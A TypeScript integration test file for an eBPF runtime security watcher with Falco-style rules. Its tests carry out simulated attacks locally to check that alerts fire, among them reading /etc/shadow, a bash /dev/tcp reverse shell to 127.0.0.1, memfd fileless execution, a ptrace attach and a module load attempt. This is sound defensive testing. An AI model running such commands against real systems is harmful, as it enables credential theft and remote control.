import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { listPrograms } from '../../src/ebpf/index.ts';
import { makeBundle } from '../support/container.ts';
import { isInstalled, liveObstacle, startLiveWatch, type LiveWatch } from '../support/live-watch.ts';

const upstreamFolder = resolve(process.env['DARTAGNAN_SHARED'] ?? '../shared', 'conformance/falco-rules');
const upstream = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml']
  .map((name) => join(upstreamFolder, name))
  .filter((path) => existsSync(path));

/** The same findings in words of our own: they run on a clone without upstream's rules, and where those want a container. */
const ownRules = `
- rule: own shell with a terminal in a container
  desc: an interactive shell was started in a container
  condition: evt.type in (execve, execveat) and evt.res = SUCCESS and container.id != host and proc.name in (sh, bash) and proc.tty != 0
  output: shell %proc.cmdline in %container.id
  priority: NOTICE
- rule: own read of shadow
  desc: the password hashes were read
  condition: evt.type in (open, openat, openat2) and fd.num >= 0 and evt.is_open_read = true and fd.name = /etc/shadow
  output: "%proc.name read %fd.name as %fd.nameraw by %proc.pname of %user.name"
  priority: WARNING
- rule: own reverse shell
  desc: standard input or output became a connection
  condition: evt.type in (dup, dup2, dup3) and evt.rawres >= 0 and fd.num in (0, 1, 2) and fd.type in (ipv4, ipv6)
  output: "%proc.name has %fd.name as %fd.num"
  priority: CRITICAL
- rule: own write below a folder of programs
  desc: a file was opened for writing where programs stand
  condition: evt.type in (open, openat, openat2, creat) and fd.num >= 0 and evt.is_open_write = true and fd.directory in (/bin, /sbin, /usr/bin, /usr/sbin)
  output: "%proc.cmdline wrote %fd.name"
  priority: ERROR
- rule: own ptrace attach
  desc: a process took hold of another
  condition: evt.type = ptrace and evt.arg.request in (PTRACE_ATTACH, PTRACE_SEIZE)
  output: "%proc.name attached (%evt.arg.request)"
  priority: WARNING
- rule: own fileless execution
  desc: a program ran from memory
  condition: evt.type in (execve, execveat) and evt.res = SUCCESS and proc.is_exe_from_memfd = true
  output: "%proc.exepath ran from memory"
  priority: CRITICAL
- rule: own symlink to a sensitive file
  desc: a link to the password hashes was made
  condition: evt.type in (symlink, symlinkat) and evt.res = SUCCESS and evt.arg.target = /etc/shadow
  output: "%evt.arg.linkpath points to %evt.arg.target"
  priority: WARNING
- rule: own outbound connection
  desc: a connection left
  condition: evt.type = connect and fd.sip = 127.0.0.1 and fd.l4proto = tcp
  output: "%proc.name connected %fd.name with %evt.res, asked for %evt.arg.addr"
  priority: NOTICE
- rule: own setns
  desc: a thread changed its namespaces
  condition: evt.type = setns
  output: "%proc.name into %evt.arg.nstype"
  priority: NOTICE
- rule: own module load
  desc: a kernel module was to be loaded, whether or not the kernel let it
  condition: evt.type in (init_module, finit_module)
  output: "%proc.name %evt.type gave %evt.res"
  priority: CRITICAL
`;

const obstacle = liveObstacle();
const capturePrograms: ReadonlySet<string> = new Set(['on_end', 'on_execute', 'on_exit', 'on_fork']);

/** Another watch may run on this machine: its programs are none of these tests'. */
const othersPrograms = new Set(obstacle === undefined ? listPrograms().map(({ id }) => id) : []);

/** Names of programs that came since; the kernel frees them a little after their last descriptor. */
function loadedPrograms(): string[] {
  return listPrograms()
    .filter(({ id }) => !othersPrograms.has(id))
    .map(({ name }) => name);
}

describe.skipIf(obstacle !== undefined)(
  `watch run on this kernel${obstacle === undefined ? '' : ` (${obstacle})`}`,
  () => {
    let watch: LiveWatch;
    let server: Server;
    let port = 0;
    const rules = mkdtempSync(join(tmpdir(), 'dartagnan-own-rules-'));

    beforeAll(async () => {
      const own = join(rules, 'own.yaml');
      writeFileSync(own, ownRules);
      server = createServer((socket) => void socket.on('error', () => undefined).end('exit\n'));
      await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
      ({ port } = server.address() as AddressInfo);
      watch = await startLiveWatch([...upstream, own]);
    }, 60_000);

    afterAll(async () => {
      server.close();
      await watch.close();
      rmSync(rules, { recursive: true, force: true });
    });

    /** Waits for our own rule and, where it is at hand, for upstream's. */
    async function expectAlerts(own: string, theirs?: string) {
      if (theirs !== undefined && upstream.length > 0) await watch.alert(theirs);
      return watch.alert(own);
    }

    it('sees the password hashes read', async () => {
      await watch.attack('cat /etc/shadow');
      const {
        output,
        output_fields: fields,
        seenAt,
      } = await expectAlerts('own read of shadow', 'Read sensitive file untrusted');
      expect(output).toContain('cat read /etc/shadow as /etc/shadow by bash of root');
      expect(seenAt - Number(fields['evt.time']) / 1e6).toBeLessThan(1000);
    });

    it('gives the kernel’s path where a link hides it', async () => {
      await watch.attack('ln -s /etc shortcut; cat shortcut/shadow');
      const hidden = await watch.alert('own read of shadow', ({ output }) => output.includes('shortcut'));
      expect(hidden.output).toContain('cat read /etc/shadow as');
    });

    it('sees a reverse shell through /dev/tcp', async () => {
      await watch.attack(`bash -c 'bash -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0'`);
      const { output } = await expectAlerts('own reverse shell');
      expect(output).toMatch(new RegExp(`127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:${port}`));
    });

    it('sees a write below a folder of programs', async () => {
      await watch.attack(`unshare -m /bin/sh -c 'mount -t tmpfs none /usr/sbin; echo > /usr/sbin/planted'`);
      const { output } = await expectAlerts('own write below a folder of programs', 'Write below binary dir');
      expect(output).toContain('wrote /usr/sbin/planted');
    });

    it('sees ptrace take hold of a process', async (context) => {
      if (!isInstalled('python3')) context.skip('python3 is not installed');
      const script = 'import ctypes, sys; c = ctypes.CDLL(None); c.ptrace(16, int(sys.argv[1]), 0, 0)';
      await watch.attack(`sleep 2 & python3 -c '${script}' $!; kill $!`);
      const { output } = await expectAlerts('own ptrace attach', 'PTRACE attached to process');
      expect(output).toContain('PTRACE_ATTACH');
    });

    it('sees a program run from memory', async (context) => {
      if (!isInstalled('python3')) context.skip('python3 is not installed');
      const script =
        'import os; f = os.memfd_create("planted", 0); os.write(f, open("/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % f, ["planted"])';
      await watch.attack(`python3 -c '${script}'`);
      const { output } = await expectAlerts('own fileless execution', 'Fileless execution via memfd_create');
      expect(output).toContain('memfd:planted ran from memory');
    });

    it('sees a link made to a sensitive file', async () => {
      await watch.attack('ln -s /etc/shadow link');
      const { output } = await expectAlerts('own symlink to a sensitive file', 'Create Symlink Over Sensitive Files');
      expect(output).toContain('link points to /etc/shadow');
    });

    it('sees an outbound connection, and one that fails', async () => {
      await watch.attack(`bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}'; bash -c 'exec 3<>/dev/tcp/127.0.0.1/1'`);
      const made = await watch.alert('own outbound connection', ({ output }) => output.includes('with SUCCESS'));
      expect(made.output).toContain(`->127.0.0.1:${port} with SUCCESS, asked for 127.0.0.1:${port}`);
      await watch.alert('own outbound connection', ({ output }) => /127\.0\.0\.1:1 with ECONNREFUSED/.test(output));
    });

    it('sees a thread change its namespaces', async () => {
      await watch.attack('nsenter --uts --target $$ /bin/true');
      const { output } = await expectAlerts('own setns');
      expect(output).toContain('nsenter into');
    });

    it('sees an attempt to load a module, though the kernel refuses it', async (context) => {
      if (!isInstalled('python3')) context.skip('python3 is not installed');
      const number = process.arch === 'arm64' ? 273 : 313;
      await watch.attack(`python3 -c 'import ctypes; ctypes.CDLL(None).syscall(${number}, -1, b"", 0)'`);
      const { output } = await expectAlerts('own module load');
      expect(output).toMatch(/finit_module gave E[A-Z]+/);
    });

    it('sees a shell with a terminal in a container', async (context) => {
      for (const program of ['runc', 'busybox', 'script'])
        if (!isInstalled(program)) context.skip(`${program} is not installed`);
      const bundle = makeBundle(watch.folder, 'true; cat /etc/passwd', true);
      try {
        await watch.attack(bundle.command);
        const { output } = await expectAlerts(
          'own shell with a terminal in a container',
          'Terminal shell in container',
        );
        expect(output).toContain(bundle.id.slice(0, 12));
      } finally {
        bundle.remove();
      }
    });

    it('ends in order and leaves nothing in the kernel', async () => {
      expect(await watch.close()).toBe(0);
      await expect
        .poll(() => loadedPrograms().filter((name) => capturePrograms.has(name)), { timeout: 10_000 })
        .toEqual([]);
    });
  },
);

/** A rule of one path. */
const ruleOf = (name: string, path: string) => `
- rule: ${name}
  desc: a file was opened
  condition: evt.type in (open, openat, openat2) and fd.name = ${path}
  output: "%proc.name opened %fd.name"
  priority: NOTICE
`;

describe.skipIf(obstacle !== undefined)(
  `watch over the life of a run${obstacle === undefined ? '' : ` (${obstacle})`}`,
  () => {
    let watch: LiveWatch | undefined;
    const folder = mkdtempSync(join(tmpdir(), 'dartagnan-watch-'));
    afterAll(() => rmSync(folder, { recursive: true, force: true }));
    const rulesFile = (name: string, content: string): string => {
      const path = join(folder, name);
      writeFileSync(path, content);
      return path;
    };
    afterEach(() => watch?.close());

    it('takes changed rules without a stop, and keeps the old ones where the new are at fault', async () => {
      const path = rulesFile('changing.yaml', ruleOf('before', '/etc/hostname'));
      watch = await startLiveWatch([path]);
      await watch.attack('cat /etc/hostname');
      await watch.alert('before');
      writeFileSync(path, ruleOf('after', '/etc/hosts'));
      await watch.said('the rules were loaded anew');
      await watch.attack('cat /etc/hosts');
      await watch.alert('after');
      writeFileSync(path, '- rule: broken');
      await watch.said('at fault');
      const before = watch.alerts.length;
      await watch.attack('cat /etc/hosts');
      await expect.poll(() => watch?.alerts.length).toBeGreaterThan(before);
    });

    it('lets the kernel keep back what no rule could match, unless a recording wants all', async () => {
      const rules = rulesFile('filtered.yaml', ruleOf('opened', '/etc/hostname'));
      watch = await startLiveWatch([rules]);
      await watch.said('filtered=3');
      await watch.attack('cat /etc/hosts; cat /etc/hostname');
      expect((await watch.alert('opened')).output).toContain('cat opened /etc/hostname');
      await watch.close();
      watch = await startLiveWatch([rules], ['-o', 'capture.enabled=true', '-o', `capture.path_prefix=${folder}/c`]);
      await watch.said('filtered=0');
    });

    it('sees a cgroup and nothing beside it', async (context) => {
      const mount = ['/sys/fs/cgroup/unified', '/sys/fs/cgroup'].find((path) =>
        existsSync(`${path}/cgroup.controllers`),
      );
      if (mount === undefined) context.skip('no version 2 cgroups are mounted');
      const name = `dartagnan-test-${process.pid}`;
      const cgroup = join(mount!, name);
      mkdirSync(cgroup);
      try {
        watch = await startLiveWatch(
          [rulesFile('scope.yaml', ruleOf('opened', '/etc/hostname'))],
          ['--cgroup', name],
          false,
        );
        await watch.attack('cat /etc/hostname');
        await watch.attack(`sh -c 'echo $$ > ${cgroup}/cgroup.procs; exec head /etc/hostname'`);
        await watch.alert('opened');
        expect(watch.alerts.map(({ output }) => output.replace(/^.*Notice /, ''))).toEqual([
          'head opened /etc/hostname',
        ]);
      } finally {
        await watch?.close();
        await expect.poll(() => emptied(cgroup)).toBe(true);
      }
    });

    it('sees a container by the first digits of its id, and nothing beside it', async (context) => {
      for (const program of ['runc', 'busybox']) if (!isInstalled(program)) context.skip(`${program} is not installed`);
      const bundle = makeBundle(folder, 'for turn in $(seq 200); do cat /etc/passwd; sleep 0.1; done', false);
      const container = spawn('/bin/sh', ['-c', bundle.command], { stdio: 'ignore' });
      try {
        await expect.poll(() => bundle.isRunning(), { timeout: 5000 }).toBe(true);
        const rules = rulesFile('container.yaml', ruleOf('opened', '/etc/passwd'));
        watch = await startLiveWatch([rules], ['--container', bundle.id.slice(0, 12), '-p', '%container.id'], false);
        await watch.attack('head /etc/passwd');
        const { output } = await watch.alert('opened');
        expect(output).toContain(`opened /etc/passwd ${bundle.id.slice(0, 12)}`);
        expect(watch.alerts.filter((alert) => alert.output.includes('head'))).toEqual([]);
      } finally {
        bundle.remove();
        container.kill();
      }
    });

    it('tells nothing of programs that it hands alerts to, which would lead to the next alert', async () => {
      const program = ['enabled=true', 'program=cat /etc/hostname'].flatMap((one) => ['-o', `program_output.${one}`]);
      watch = await startLiveWatch([rulesFile('handed.yaml', ruleOf('opened', '/etc/hostname'))], program, false);
      await watch.attack('head /etc/hostname');
      await watch.alert('opened', ({ output }) => output.includes('head opened'));
      await watch.attack('sleep 1');
      expect(watch.alerts.filter(({ output }) => output.includes('cat opened'))).toEqual([]);
    });

    it.each(['SIGABRT', 'SIGINT', 'SIGKILL', 'SIGQUIT'] as const)(
      'leaves nothing in the kernel after %s, though a program that it started lives on',
      async (signal) => {
        const program = ['enabled=true', 'keep_alive=true', 'program=sleep 3'].flatMap((one) => [
          '-o',
          `program_output.${one}`,
        ]);
        watch = await startLiveWatch([rulesFile('killed.yaml', ruleOf('opened', '/etc/hostname'))], program);
        await watch.attack('cat /etc/hostname');
        await watch.alert('opened');
        expect(loadedPrograms()).toContain('on_execute');
        watch.kill(signal);
        await expect
          .poll(() => loadedPrograms().filter((name) => capturePrograms.has(name)), { timeout: 10_000 })
          .toEqual([]);
      },
    );
  },
);

function emptied(cgroup: string): boolean {
  try {
    rmdirSync(cgroup);
    return true;
  } catch {
    return false;
  }
}
